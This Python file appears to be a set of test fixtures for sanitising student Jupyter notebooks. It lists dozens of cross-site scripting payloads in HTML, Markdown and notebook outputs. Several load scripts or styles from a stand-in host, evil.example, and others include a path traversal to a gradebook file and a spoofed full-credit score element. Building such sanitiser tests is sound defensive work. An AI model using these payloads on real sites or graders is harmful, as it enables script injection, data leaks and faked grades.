"""What a student may write to have a page run a script, load something or look false.

Each script would call `alert`; each address would ask the host evil.example.
"""

from base64 import b64encode

SCRIPT = "<script>alert(1)</script>"
FRAME = "data:text/html;base64," + b64encode(SCRIPT.encode()).decode()
DRAWING = f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">{SCRIPT}</svg>'
PICTURE = "data:image/svg+xml;base64," + b64encode(DRAWING.encode()).decode()
EVIL = "http://evil.example/"

# HTML, for Markdown cells and for outputs of kind text/html.
HTML = {
    "script": SCRIPT,
    "script from elsewhere": f'<script src="{EVIL}x.js"></script>',
    "script in upper case": "<ScRiPt>alert(1)</sCrIpT>",
    "script over lines": "<script\n>\nalert(1)\n</script\n>",
    "script inside script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "module": '<script type="module">alert(1)</script>',
    "image error": '<img src="x" onerror="alert(1)">',
    "image error without quotes": "<img/src=x/onerror=alert(1)>",
    "image never closed": '<img src="x" onerror="alert(1)"',
    "quotes that do not match": '<img """><script>alert(1)</script>">',
    "event with line breaks": '<img src=x\nonerror\n=\n"alert(1)">',
    "event on focus": '<p tabindex="0" autofocus onfocus="alert(1)">x</p>',
    "event on hover": '<b onmouseover="alert(1)" onclick="alert(1)">x</b>',
    "event on toggle": '<details open ontoggle="alert(1)">x</details>',
    "event of an animation": "<style>@keyframes x{}</style>"
    '<b style="animation-name:x" onanimationstart="alert(1)">x</b>',
    "video": '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
    "body": '<body onload="alert(1)" onpageshow="alert(1)">',
    "svg": DRAWING,
    "svg with animation": '<svg><animate onbegin="alert(1)" attributeName="x"/></svg>',
    "svg with a link": '<svg><a href="javascript:alert(1)"><text>x</text></a></svg>',
    "svg that uses": f'<svg><use href="{PICTURE}#x"/></svg>',
    "math with a link": '<math href="javascript:alert(1)"><mi>x</mi></math>',
    "math and style": "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "textarea": "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "title": "<title><a title='</title><img src=x onerror=alert(1)>'></a></title>",
    "comment": "<!--><img src=x onerror=alert(1)>-->",
    "conditional comment": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "template": "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "frame": f'<iframe src="{FRAME}"></iframe>',
    "frame with a script": '<iframe src="javascript:alert(1)"></iframe>',
    "frame with a document": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
    "object": f'<object data="{FRAME}"></object><embed src="{FRAME}">',
    "refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}">',
    "base": f'<base href="{EVIL}">',
    "style sheet": f'<link rel="stylesheet" href="{EVIL}x.css">',
    "style that imports": f"<style>@import '{EVIL}x.css'; body{{display:none}}</style>",
    "style that loads": f'<p style="background:url({EVIL}x.png)">x</p>',
    "style that escapes": f'<p style="b\\61ckground-image:\\75rl({EVIL}y.png)">x</p>',
    "style over the page": '<p style="position:fixed;top:0;left:0;z-index:9">x</p>',
    "list of pictures": f'<ul style="list-style:url({EVIL}z.png)"><li>x</li></ul>',
    "form": f'<form action="{EVIL}"><input name=x autofocus onfocus=alert(1)></form>',
    "button": '<button formaction="javascript:alert(1)" onclick="alert(1)">x</button>',
    "class of Formgrader": '<b class="full-credit score" id="statusmessage">x</b>',
    "picture from elsewhere": f'<img src="{EVIL}p.png" srcset="{EVIL}q.png 2x">',
    "picture without scheme": '<img src="//evil.example/r.png">',
    "table background": f'<table background="{EVIL}t.png"><tr><td>x</td></tr></table>',
    "picture that is a drawing": f'<img src="{PICTURE}">',
    "link that is a script": '<a href="javascript:alert(1)">x</a>',
    "link with a tab": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "link with a control": '<a href="&#1;javascript:alert(1)">x</a>',
    "link to data": f'<a href="{FRAME}">x</a>',
    "link to a file beside": '<a href="evil.html">x</a>',
    "old link": '<a href="vbscript:msgbox(1)">x</a>',
    "image map": '<map name=m><area href="javascript:alert(1)"></map><img usemap="#m">',
    "ping": f'<a href="https://example.org" ping="{EVIL}ping">x</a>',
}

# Markdown that only becomes HTML when it is rendered.
MARKDOWN = {
    "link": "[x](javascript:alert(1))",
    "link with entities": "[x](&#106;avascript:alert(1))",
    "link in brackets": "<javascript:alert(1)>",
    "link by reference": "[x][y]\n\n[y]: javascript:alert(1)",
    "link to data": f"[x]({FRAME})",
    "picture": "![x](javascript:alert(1))",
    "picture with a title": '![x](x "y\\" onerror=\\"alert(1)")',
    "picture with words": '![" onerror="alert(1)](x)',
    "attachment": "![x](attachment:evil.png)",
    "missing attachment": "![x](attachment:nothing.png)",
    "file outside": "![x](../../../gradebook.db)",
    "link by name": "![x](link.png)",
    "language of code": '```"><img/src=x/onerror=alert(1)>\nx\n```',
    "diagram": "```mermaid\n<img src=x onerror=alert(1)>\n```",
    "half in a table": "|a|b|\n|-|-|\n|<img src=x |onerror=alert(1)>|",
    "broken over blocks": "<img src=x\n\nonerror=alert(1)>",
    "code that ends": "`<b>`</code><script>alert(1)</script>",
    "formula with HTML": "$\\text{<img src=x onerror=alert(1)>}$",
    "formula with a link": "$\\href{javascript:alert(1)}{x}$",
    "formula with quotes": '$\\color{red" onmouseover="alert(1)}{x}$',
    "formula with entities": "$\\text{&lt;img src=x onerror=alert(1)&gt;}$",
    "formula without end": "$" * 3 + "\\begin{x}<script>alert(1)</script>\\end{x}",
    "formula that grows": "$\\def\\a{\\b\\b}\\def\\b{\\a\\a}\\a$",
    "task": '- [x] <input autofocus onfocus="alert(1)">',
}

# Output data by kind, and metadata, that a page would write as it is.
OUTPUTS = {
    "javascript": ({"application/javascript": "alert(1)"}, {}),
    "widget": (
        {
            "application/vnd.jupyter.widget-view+json": {
                "model_id": "</script>" + SCRIPT
            }
        },
        {},
    ),
    "unknown kind": ({"text/x-evil": SCRIPT, SCRIPT: SCRIPT}, {}),
    "drawing": ({"image/svg+xml": DRAWING}, {}),
    "formula": ({"text/latex": f"$x$ {SCRIPT}"}, {}),
    "Markdown": ({"text/markdown": f"{SCRIPT} [x](javascript:alert(1))"}, {}),
    "text": ({"text/plain": SCRIPT}, {}),
    "picture that breaks out": ({"image/png": '"><script>alert(1)</script>'}, {}),
    "width": (
        {"image/png": "iVBORw0KGgo="},
        {"image/png": {"width": "1 onload=alert(1) onerror=alert(1)", "height": 3}},
    ),
    "isolated": ({"text/html": SCRIPT}, {"text/html": {"isolated": True}}),
    "file name": ({"image/png": "x"}, {"filenames": {"image/png": EVIL + "f.png"}}),
}
